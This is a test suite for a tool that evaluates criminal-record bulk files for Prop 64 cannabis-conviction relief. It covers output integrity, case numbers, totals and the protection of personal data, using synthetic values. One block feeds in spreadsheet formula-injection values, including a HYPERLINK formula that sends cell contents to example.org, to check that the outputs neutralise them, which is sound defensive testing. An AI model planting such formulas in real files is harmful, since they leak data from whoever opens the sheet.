import { createHash } from 'node:crypto';
import { existsSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, test } from 'vitest';
import { findInputs, openInput, outputFolder } from '../../src/node/index.ts';
import { RunRefused } from '../../src/run/index.ts';
import { type Row, NO_SENTENCE, bulkFile, line, row } from '../support/bulk-file.ts';
import { RESULT_FILES } from '../support/result-files.ts';
import { BY_LEVEL, DISMISS_NOTHING, dismissIf, policyOf } from '../support/policies.ts';
import { memoryFolder, memoryInput, onlyDetermination, refusalOf, runInto, runOn } from '../support/run-on.ts';

const scratch = mkdtempSync(join(tmpdir(), 'cmr-outputs-'));
afterAll(() => rmSync(scratch, { recursive: true }));

const policy = dismissIf({ ask: 'section-within', sections: ['HS 11359'] });

describe('The files of a run', () => {
  test('All of them are published together', async () => {
    expect([...(await runOn(bulkFile([row()]))).files.keys()].sort()).toEqual([...RESULT_FILES]);
  });

  test('G20: No time that the run took is written into them', async () => {
    const { summary, record } = await runOn(bulkFile([row()]));
    expect(Object.keys({ ...summary, ...record }).filter((key) => /time|second|date$/i.test(key))).toEqual([]);
  });

  test('G21: When a disk is full, whichever file it is that no longer fits, the run fails and publishes nothing', async () => {
    const rows = [row(), row({ SUBJECT_ID: '10000002' }), line(row()).slice(0, -2)];
    const whole = memoryFolder();
    await runInto(whole, bulkFile(rows));
    const writes: string[] = [];
    await runInto(
      memoryFolder((name) => void writes.push(name)),
      bulkFile(rows),
    );
    expect(new Set(writes)).toEqual(new Set(whole.published.keys()));
    for (let full = 1; full <= writes.length; full++) {
      let left = full;
      const folder = memoryFolder((name) => {
        if (--left === 0) throw new RunRefused([{ code: 'cannot-write', file: name, hint: 'the disk is full' }]);
      });
      expect((await refusalOf(runInto(folder, bulkFile(rows))))[0]!.code).toBe('cannot-write');
      expect([folder.published.size, folder.waiting.size]).toEqual([0, 0]);
    }
  });

  test('G21: Each file is as long, and has the hash, that the record of the run says', async () => {
    const { files, record } = await runOn(bulkFile([row(), row({ PRI_NAME: 'MUÑOZ,JOSÉ' })]));
    expect(record.outputs.map((each: { name: string }) => each.name).sort()).toEqual(
      RESULT_FILES.filter((name) => name !== 'run.json'),
    );
    for (const { name, bytes, sha256: hash } of record.outputs) {
      const written = Buffer.from(files.get(name)!, 'utf8');
      expect([name, written.length, createHash('sha256').update(written).digest('hex')]).toEqual([name, bytes, hash]);
    }
  });

  test('G22: An output folder that is not there yet is made', async () => {
    const path = join(scratch, 'not', 'there', 'yet');
    await runInto(outputFolder(path), bulkFile([row()]));
    expect(readdirSync(path).sort()).toEqual([...RESULT_FILES]);
  });

  test('G22: A run that is refused makes no folder and leaves nothing in one that was there', async () => {
    const path = join(scratch, 'refused');
    await refusalOf(runInto(outputFolder(path), bulkFile([row()]), { county: 'YOLO' }));
    expect(existsSync(path)).toBe(false);
    await runInto(outputFolder(path), bulkFile([row()]));
    const before = readFileSync(join(path, 'summary.json'), 'utf8');
    await refusalOf(runInto(outputFolder(path), bulkFile([row({ SUBJECT_ID: '10000002' })]), { county: 'YOLO' }));
    expect(readdirSync(path).sort()).toEqual([...RESULT_FILES]);
    expect(readFileSync(join(path, 'summary.json'), 'utf8')).toBe(before);
  });

  test('G22: A folder that cannot be written is told with its reason', async () => {
    const file = join(scratch, 'a-file');
    writeFileSync(file, 'x');
    const [problem] = await refusalOf(runInto(outputFolder(join(file, 'results')), bulkFile([row()])));
    expect(problem!.hint).toMatch(/cannot be written.*folder/);
    expect(problem!.hint).not.toContain(scratch);
  });

  test('G23: A path with a comma in it is one file', () => {
    const path = join(scratch, 'los angeles, part 1.dat');
    writeFileSync(path, bulkFile([row()]));
    expect(findInputs([path])).toEqual([path]);
    const input = openInput(path);
    expect(input.name).toBe('los angeles, part 1.dat');
    input.close();
  });

  test('G24: However long a file is, it is read a few megabytes at a time', async () => {
    const pattern = line(row({ SUBJECT_ID: '@', COMMENT_TEXT: 'x'.repeat(4_000) }));
    const rows = Array.from({ length: 3_000 }, (_, i) => pattern.replace('@', String(20_000_000 + i)));
    const input = memoryInput('long.dat', bulkFile(rows));
    let longest = 0;
    const counting = {
      ...input,
      read: (offset: number, length: number) => ((longest = Math.max(longest, length)), input.read(offset, length)),
    };
    const outcome = await runInto(memoryFolder(), [counting], { policy });
    expect(outcome.record.inputs[0]!.rows).toBe(3_000);
    expect(input.size).toBeGreaterThan(12_000_000);
    expect(longest).toBeLessThan(6_000_000);
  });

  test('G24: A person with a thousand convictions is decided, and no answer lists them all', async () => {
    const rows = Array.from({ length: 1_000 }, (_, i) =>
      row({
        CNT_ORDER: `${101 + Math.floor(i / 50)}002${String((i % 50) + 1).padStart(3, '0')}000`,
        STP_EVENT_DATE: `${1980 + (i % 31)}${10 + (i % 3)}${10 + (i % 17)}`,
      }),
    );
    const results = await runOn(bulkFile(rows), { policy: dismissIf({ ask: 'years-without-conviction', years: 5 }) });
    expect(results.determinations.size).toBe(1_000);
    expect(results.determinations.get('10000001/101002001000')!['answers']!.length).toBeLessThan(4_000);
  });
});

describe('Case numbers', () => {
  const caseNumber = async (rows: readonly Row[]) => (await runOn(bulkFile(rows))).prop64[0]!['Case Number'];

  test('G25: They are printed without padding, and each once', async () => {
    expect(
      await caseNumber([
        row({ OFN: 'A-1 ' }),
        row({ CNT_ORDER: '101002002000', OFN: ' A-1', OFFENSE_DESCR: '484 PC' }),
      ]),
    ).toBe('A-1');
  });

  test('G25: NULL and FILE NBR NOT REPORTD are none', async () => {
    for (const OFN of ['NULL  ', 'FILE NBR NOT REPORTD', '  -  ', ''])
      expect(await caseNumber([row({ OFN })])).toBe('');
  });

  test('G25: Without a file number of the court the further court case number stands in', async () => {
    expect(await caseNumber([row({ OFN: 'NULL', FE_NUM_CRT_CASE: ' 12 140189-B ' })])).toBe('12 140189-B');
    expect(await caseNumber([row({ OFN: '10F1', FE_NUM_CRT_CASE: 'OTHER' })])).toBe('10F1');
  });

  test("G25: An arrest agency's file number is not a court case number", async () => {
    expect(
      await caseNumber([
        row({ OFN: '' }),
        row({
          CNT_ORDER: '101002002000',
          STP_TYPE_DESCR: 'ARREST/DETAINED/CITED',
          OFN: 'SSD-77',
          DISP_DESCR: '',
          CONV_STAT_DESCR: '',
        }),
      ]),
    ).toBe('');
  });
});

describe('The totals', () => {
  const rows = [
    row(),
    row({ CNT_ORDER: '101002002000', OFFENSE_DESCR: '11357(B) HS-POSSESS', CONV_STAT_DESCR: 'MISDEMEANOR' }),
    row({ SUBJECT_ID: '10000002', OFFENSE_DESCR: '11358 HS-CULTIVATE', CONV_STAT_DESCR: 'INFRACTION' }),
    row({ SUBJECT_ID: '10000003', CONV_STAT_DESCR: '', OFFENSE_TOC: '' }),
    row({ SUBJECT_ID: '10000004', OFFENSE_DESCR: 'SEE COMMENT FOR CHARGE' }),
    row({ SUBJECT_ID: '10000005', OFFENSE_DESCR: '484 PC-THEFT' }),
    row({ SUBJECT_ID: '10000006', CNT_ORDER: 'x' }),
  ];

  test('G29: Misdemeanors and additional relief are in the table of outcomes by section, which sums to the convictions in scope', async () => {
    const { summary } = await runOn(bulkFile(rows), { policy: BY_LEVEL });
    const sum = (counts: Record<string, number>): number => Object.values(counts).reduce((a, b) => a + b, 0);
    const bySection = Object.values(summary.outcomesBySection as Record<string, Record<string, number>>)
      .map(sum)
      .reduce((a, b) => a + b, 0);
    const byReason = Object.values(summary.reasons as Record<string, Record<string, number>>)
      .map(sum)
      .reduce((a, b) => a + b, 0);
    const { convictions, rows: counted, people } = summary.balance;
    expect(convictions.inScope).toBe(5);
    expect([sum(convictions.byOutcome), bySection, byReason]).toEqual([5, 5, 5]);
    expect(counted).toEqual({ in: 7, used: 6, setAside: 1, repeatedAmongUsed: 0 });
    expect([people.in, people.inScope, people.outOfScope, sum(people.inScopeByBestOutcome)]).toEqual([5, 4, 1, 4]);
  });

  test('G29: Felonies, the rest, and those of unknown level add up to the convictions by section', async () => {
    const { summary } = await runOn(bulkFile(rows), { policy: BY_LEVEL });
    expect(summary.prop64ConvictionsCountInCountyByCodeSection).toEqual({ 11357: 1, 11358: 1, 11359: 2 });
    expect([
      summary.prop64FelonyConvictionsCountInCounty,
      summary.prop64NonFelonyConvictionsCountInCounty,
      summary.prop64UnknownLevelConvictionsCountInCounty,
    ]).toEqual([1, 2, 1]);
  });

  test('G2, G3: Nobody is said to be free of felonies while a conviction of unknown level stands', async () => {
    const other = row({ CNT_ORDER: '102002001000', OFFENSE_DESCR: '484 PC', CONV_STAT_DESCR: '', OFFENSE_TOC: '' });
    const { summary } = await runOn(bulkFile([row(), other]), { policy });
    expect(summary.reliefWithCurrentEligibilityChoices).toEqual({
      CountSubjectsNoFelony: 0,
      CountSubjectsNoConviction: 0,
      CountSubjectsNoConvictionLast7Years: 0,
    });
  });
});

describe('Cells that a spreadsheet would run', () => {
  const FORMULA = '=HYPERLINK("http://example.org/?"&A1,"click")';

  for (const text of [FORMULA, '+1+1', '-1+1', '@SUM(A1)', '\t=1+1', '\r=1+1', ' =1+1']) {
    test(`G33: ${JSON.stringify(text)} is text in determinations.csv and stands as it was in All_Results.csv`, async () => {
      const cells = { PRI_NAME: text, STP_ORI_DESCR: text, OFN: text };
      const results = await runOn(bulkFile([row(cells)]), { policy });
      const found = onlyDetermination(results);
      for (const cell of Object.values(found)) expect(cell).not.toMatch(/^[=+@\t\r]|^-./);
      expect(found['name']).toContain(text.trim());
      expect([results.all[0]!['PRI_NAME'], results.all[0]!['OFN']]).toEqual([text, text]);
    });
  }

  test('G33: A row that begins with a formula is text in rows_set_aside.csv', async () => {
    const broken = line(row({ RECORD_ID: '=1+1' })).slice(0, -2);
    const { setAside, files } = await runOn(bulkFile([row({ SUBJECT_ID: '10000002' }), broken]));
    for (const cell of Object.values(setAside[0]!)) expect(cell).not.toMatch(/^[=+@\t\r]|^-./);
    expect(files.get('rows_set_aside.csv')).toContain('=1+1');
  });
});

describe('Personal data', () => {
  const MARKED = {
    PRI_SSN: '999112222',
    REQ_SSN: '999113333',
    PRI_CDL: 'D9991144',
    REQ_CDL: 'D9991155',
    PRI_IDN: 'I9991166',
    PRI_INN: 'A9991177',
    FBI_NUMBER: '9991188F',
    COMMENT_TEXT: 'LIVES AT 1 MARKED STREET',
    POB_NAME: 'MARKEDVILLE',
    REQ_NAME: 'MARKED,ASKED FOR',
  };

  test('G34: determinations.csv holds no number of a person but those that name them to DOJ', async () => {
    const { files } = await runOn(bulkFile([row(MARKED)]), { policy });
    for (const value of Object.values(MARKED)) expect(files.get('determinations.csv')).not.toContain(value);
  });

  test('G34: All_Results_Condensed.csv leaves out social security and licence numbers', async () => {
    const { files } = await runOn(bulkFile([row(MARKED)]), { policy });
    for (const value of [MARKED.PRI_SSN, MARKED.REQ_SSN, MARKED.PRI_CDL, MARKED.FBI_NUMBER])
      expect(files.get('All_Results_Condensed.csv')).not.toContain(value);
  });

  const DOUBTFUL: readonly Row[] = [
    row({
      ...MARKED,
      SUBJECT_ID: '99900001',
      CII_NUMBER: '9990000001',
      PRI_NAME: 'MARKED,MARY',
      PRI_DOB: '19630000',
      OFN: 'MARKED-7',
    }),
    row({ SUBJECT_ID: '99900002', PRI_DOB: '19630700', STP_EVENT_DATE: '20150700' }),
    row({ SUBJECT_ID: '99900003', STP_EVENT_DATE: '20150000' }),
    row({ SUBJECT_ID: '99900003', DISP_ORDER: '101002001202', DISP_DESCR: 'MARKED WORDS NOBODY KNOWS' }),
  ];

  for (const name of ['run.json', 'summary.json']) {
    test(`G34: ${name} tells nothing about any one person`, async () => {
      const asked = policyOf(
        { ask: 'age-at-least', age: 57, then: 'dismiss' },
        { ask: 'years-since-conviction', years: 5, then: 'dismiss' },
      );
      const text = (await runOn(bulkFile(DOUBTFUL), { policy: asked })).files.get(name)!;
      expect(text).not.toMatch(/MARKED|9990000/);
      for (const value of [MARKED.PRI_SSN, MARKED.REQ_SSN, '1963']) expect(text).not.toContain(value);
    });
  }

  test('G34: No problem and no notice holds a cell of the data', async () => {
    const broken = [line(DOUBTFUL[0]!).slice(0, -2), row({ ...MARKED, PRI_NAME: 'MARKED,MARY', CNT_ORDER: 'MARKED' })];
    const problems = await refusalOf(runOn(bulkFile(broken, { header: 'none' })));
    expect(JSON.stringify(problems)).not.toMatch(/MARKED|999/);
    const { notices, setAside } = await runOn(bulkFile([row(), ...broken]));
    expect(JSON.stringify(notices)).not.toMatch(/MARKED|999/);
    for (const { problem, field, code } of setAside) expect(`${problem}${field}${code}`).not.toMatch(/MARKED|999/);
  });
});

describe('All_Results.csv', () => {
  test('G33: It echoes the cells of the input byte for byte, whatever their quotes, padding and encoding', async () => {
    const latin = Buffer.concat([
      Buffer.from(bulkFile([row()])),
      Buffer.from(
        line(
          row({
            SUBJECT_ID: '10000002',
            PRI_NAME: '@@',
            OFN: '  07 ',
            COMMENT_TEXT: 'SAYS "X"\r\nTWICE',
            RACE_DESCR: 'WHITE  ',
          }),
        ).replace('M,19800314', '"M","19800314"'),
      ),
      Buffer.from('\n'),
    ])
      .toString('latin1')
      .replace('@@', 'MU\u00d1OZ');
    const bytes = Buffer.from(latin, 'latin1');
    const folder = memoryFolder();
    await runInto(folder, new Uint8Array(bytes));
    const written = Buffer.from(folder.published.get('All_Results.csv')!).toString('latin1');
    const rows = latin.split('\n').slice(1).join('\n');
    const second = rows.slice(rows.indexOf('10000002') - 15, -1);
    expect(written).toContain(`\n${second},`);
  });

  test('A conviction in scope has its result in the same cells of the three result files', async () => {
    const results = await runOn(
      bulkFile([row(), row({ ...NO_SENTENCE, SUBJECT_ID: '10000002', OFFENSE_DESCR: '484 PC-THEFT' })]),
      { policy: DISMISS_NOTHING },
    );
    const own = (each: Readonly<Record<string, string>>) => Object.fromEntries(Object.entries(each).slice(-23));
    expect(own(results.prop64[0]!)).toEqual(own(results.all[0]!));
    expect(own(results.condensed[0]!)).toEqual(own(results.all[0]!));
    expect([results.all.length, results.condensed.length, results.prop64.length]).toEqual([2, 2, 1]);
    expect([
      Object.keys(results.all[0]!).length >= 113,
      Object.keys(results.condensed[0]!).indexOf('Case Number'),
    ]).toEqual([true, 20]);
  });
});
